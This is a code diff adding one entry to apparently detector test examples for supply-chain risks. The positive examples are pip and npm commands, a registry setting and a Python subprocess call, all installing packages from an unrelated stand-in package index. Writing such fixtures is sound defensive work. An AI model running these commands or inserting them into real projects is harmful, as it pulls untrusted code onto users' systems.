@@ -182,6 +182,7 @@ export const supplyChainExamples: FamilyExamples = {
       fence("bash", "pip install --extra-index-url https://unrelated-host.dev/simple notes"),
       fence("bash", "npm i notes --registry=https://unrelated-host.dev"),
       { ".npmrc": "registry=https://unrelated-host.dev\n" },
+      { "a.py": 'run(["pip", "install", "--index-url", "https://unrelated-host.dev/simple", "notes"])\n' },
     ],
     negative: [
       fence("bash", "pip install --index-url https://download.pytorch.org/whl/cpu torch"),
